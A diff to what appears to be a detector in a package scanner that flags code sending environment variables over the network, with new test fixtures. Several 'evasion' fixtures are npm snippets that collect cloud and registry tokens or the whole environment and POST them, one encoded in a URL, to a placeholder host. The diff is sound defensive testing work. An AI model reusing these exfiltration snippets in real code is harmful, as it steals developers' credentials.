@@ -1,3 +1,4 @@
+import { SWEPT } from "../behaviour/environments.ts";
 import { marks } from "../behaviour/marks.ts";
 import { flowsBetween } from "../behaviour/trace.ts";
 import type { Detector } from "../detector.ts";
@@ -20,12 +21,12 @@ Error reporters that attach the environment filter it and do so on request only.
   *detect(tree) {
     for (const file of codeWith(tree, marks("environment"))) {
       for (const flow of flowsBetween(file, ["environment"], ["upload", "http", "dns", "send"])) {
-        const { sink } = flow;
+        const { sink, source } = flow;
         const late = sink.phase === "call" || sink.phase === "none";
-        const says = `all environment variables are sent by ${sink.what} ${sink.text.slice(0, 100)}`;
+        const says = `${source.what} are sent by ${sink.what} ${sink.text.slice(0, 100)}`;
         yield sight(file, sink.offset, says.trimEnd(), {
           phase: sink.phase,
-          share: (late ? 0.6 : 1) * certainty(file, flow),
+          share: (late ? (source.what === SWEPT ? 0.4 : 0.6) : 1) * certainty(file, flow),
         });
       }
     }
@@ -45,6 +46,20 @@ Error reporters that attach the environment filter it and do so on request only.
       },
     ],
     passes: [
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const options = { cwd, env: process.env };\nspawn('x', options);\nfetch(u, { method: 'POST', body: JSON.stringify(options.cwd) });\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const names = ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN'];\nconst keys = names.map((n) => process.env[n]);\nfetch(u, { method: 'POST', body: keys[0] });\n",
+        },
+      },
       { ecosystem: "pypi", files: { "demo/a.py": "import os, requests\nrequests.post(os.environ['URL'], json=x)\n" } },
       {
         ecosystem: "npm",
@@ -58,6 +73,27 @@ Error reporters that attach the environment filter it and do so on request only.
       },
     ],
     evasions: [
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const names = ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'GITHUB_TOKEN'];\nconst o = {};\nfor (const n of names) o[n] = process.env[n];\nfetch('https://example.invalid', { method: 'POST', body: JSON.stringify(o) });\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const { NPM_TOKEN, GH_TOKEN, VAULT_TOKEN } = process.env;\nfetch('https://example.invalid/' + btoa(NPM_TOKEN + GH_TOKEN + VAULT_TOKEN), { method: 'POST', body: '' });\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const os = require('os');\nconst all = { host: os.hostname(), env: process.env };\nfetch('https://example.invalid', { method: 'POST', body: JSON.stringify(all) });\n",
+        },
+      },
       {
         ecosystem: "npm",
         files: {
